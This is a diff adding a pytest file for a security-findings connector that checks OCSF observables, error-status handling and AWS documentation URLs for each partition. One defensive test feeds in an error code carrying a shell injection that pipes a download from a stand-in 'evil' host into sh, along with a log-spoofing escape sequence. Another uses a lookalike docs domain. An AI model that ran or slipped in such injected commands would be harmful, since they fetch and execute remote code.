@@ -1,0 +1,130 @@
+"""Values a SOC pivots on: OCSF ``observables`` and ``status_code``/``status_detail``, and the
+documentation link of ``Remediation.Recommendation.Url`` in the event's partition."""
+
+from __future__ import annotations
+
+import copy
+import re
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from connector.factory import FindingFactory
+from connector.model import RenderedFinding
+from connector.render.links import docs_url
+from tests.support.records import ACCOUNT, EVENTS, RESOURCE_IDS, variants
+
+RENDERED_AT = datetime(2026, 12, 1, 9, 0, 0, tzinfo=UTC)
+
+
+@pytest.fixture(scope="module")
+def factory() -> FindingFactory:
+    return FindingFactory.load(clock=lambda: RENDERED_AT)
+
+
+def render(factory: FindingFactory, record: dict[str, Any]) -> dict[str, RenderedFinding]:
+    out = {r.format: r for r in factory.render(record, origin="test")}
+    assert set(out) == {"asff", "ocsf"}
+    return out
+
+
+def values_at(document: Any, path: str) -> list[Any]:
+    """Every value at a dotted OCSF attribute path, lists traversed."""
+    nodes = [document]
+    for part in path.split("."):
+        nxt: list[Any] = []
+        for node in nodes:
+            items = node if isinstance(node, list) else [node]
+            nxt.extend(item[part] for item in items if isinstance(item, dict) and part in item)
+        nodes = nxt
+    return [v for n in nodes for v in (n if isinstance(n, list) else [n])]
+
+
+def observed(document: dict[str, Any], type_id: int) -> list[str]:
+    return [o["value"] for o in document["observables"] if o["type_id"] == type_id]
+
+
+@pytest.mark.parametrize("variant", ["success", "failed", "root", "assumed-role", "invoked-by-cloudformation",
+                                     "sdk-no-source-ip", "identity-center", "aws-cn"])
+@pytest.mark.parametrize("event", EVENTS)
+def test_every_observable_repeats_the_attribute_it_names(factory: FindingFactory, event: str, variant: str) -> None:
+    ocsf = render(factory, variants(event)[variant])["ocsf"].document
+    assert ocsf["observables"], "a finding without observables"
+    for obs in ocsf["observables"]:
+        assert obs["value"] in values_at(ocsf, obs["name"]), obs
+    assert len({(o["name"], o["value"]) for o in ocsf["observables"]}) == len(ocsf["observables"])
+
+
+@pytest.mark.parametrize("event", EVENTS)
+def test_observables_are_typed_for_pivoting(factory: FindingFactory, event: str) -> None:
+    record = variants(event)["success"]
+    ocsf = render(factory, record)["ocsf"].document
+    assert observed(ocsf, 2) == [record["sourceIPAddress"]]  # IP Address
+    assert observed(ocsf, 31) == [record["userIdentity"]["arn"]]  # User Object: uid = the ARN
+    assert observed(ocsf, 19) == [record["userIdentity"]["accessKeyId"]]  # User Credential ID
+    assert observed(ocsf, 35) == [ACCOUNT]  # Account Object: uid
+    targets = observed(ocsf, 10)  # Resource UID: the resources' ARNs
+    assert any(arn.startswith("arn:aws:ec2:") and arn.endswith(RESOURCE_IDS[event]) for arn in targets)
+    types = {o["type_id"]: o["type"] for o in ocsf["observables"]}
+    assert types[2] == "IP Address" and types[10] == "Resource UID" and types[31] == "User Object: uid"
+
+
+def test_an_aws_service_caller_is_a_hostname_and_no_ip(factory: FindingFactory) -> None:
+    ocsf = render(factory, variants(EVENTS[0])["invoked-by-cloudformation"])["ocsf"].document
+    assert observed(ocsf, 1) == ["cloudformation.amazonaws.com"]
+    assert observed(ocsf, 2) == []
+    no_ip = render(factory, variants(EVENTS[0])["sdk-no-source-ip"])["ocsf"].document
+    assert observed(no_ip, 2) == [] and observed(no_ip, 1) == []
+
+
+@pytest.mark.parametrize("event", EVENTS)
+def test_status_code_only_for_failed_and_dry_run_calls(factory: FindingFactory, event: str) -> None:
+    calls = variants(event)
+    success = render(factory, calls["success"])["ocsf"].document
+    assert "status_code" not in success and "status_detail" not in success
+    for variant in ("failed", "dry-run", "root-failed"):
+        record = calls[variant]
+        ocsf = render(factory, record)["ocsf"].document
+        assert ocsf["status_code"] == record["errorCode"]
+        assert ocsf["status_detail"].endswith(record["errorMessage"])
+        assert ("nothing changed" if variant == "dry-run" else "nothing was deleted") in ocsf["status_detail"]
+
+
+def test_a_hostile_error_code_and_message_are_not_passed_through(factory: FindingFactory) -> None:
+    record = copy.deepcopy(variants(EVENTS[0])["failed"])
+    record["errorCode"] = "Client.Unauthorized$(curl evil|sh)\nX"
+    record["errorMessage"] = "denied\n\x1b[31mFAKE LOG LINE\r" + "A" * 5000
+    ocsf = render(factory, record)["ocsf"].document
+    assert "status_code" not in ocsf  # not an error name: not reported as one
+    detail = ocsf["status_detail"]
+    assert "malformed error code" in detail and "curl" not in detail
+    assert not re.search(r"[\x00-\x1f\x7f]", detail)
+    assert len(detail) < 700 and detail.endswith("…")
+
+
+# -- documentation in the event's partition --------------------------------------------------
+
+@pytest.mark.parametrize(("variant", "host"), [
+    ("success", "https://docs.aws.amazon.com/"),
+    ("aws-us-gov", "https://docs.aws.amazon.com/"),  # GovCloud is documented on the commercial site
+    ("aws-cn", "https://docs.amazonaws.cn/en_us/"),
+])
+@pytest.mark.parametrize("event", EVENTS)
+def test_recommendation_url_is_in_the_partitions_docs(factory: FindingFactory, event: str, variant: str, host: str) -> None:
+    out = render(factory, variants(event)[variant])
+    commercial = render(factory, variants(event)["success"])["asff"].document["Remediation"]["Recommendation"]["Url"]
+    path = commercial.removeprefix("https://docs.aws.amazon.com/")
+    assert path != commercial, "a mapping's url is expected on the commercial docs site"
+    assert out["asff"].document["Remediation"]["Recommendation"]["Url"] == host + path
+    ocsf = out["ocsf"].document["remediation"]
+    assert ocsf["kb_article_list"][0]["src_url"] == host + path
+
+
+def test_docs_url_moves_only_commercial_docs_links() -> None:
+    url = "https://docs.aws.amazon.com/vpc/latest/userguide/nacl-rules.html"
+    assert docs_url(url, "aws-cn") == "https://docs.amazonaws.cn/en_us/vpc/latest/userguide/nacl-rules.html"
+    assert docs_url(url, "aws-us-gov") == url
+    assert docs_url(url, "aws-iso") == url  # no public docs host: the commercial page
+    assert docs_url("https://attack.mitre.org/techniques/T1562/", "aws-cn") == "https://attack.mitre.org/techniques/T1562/"
+    assert docs_url("https://docs.aws.amazon.com.evil.example/x", "aws-cn") == "https://docs.aws.amazon.com.evil.example/x"
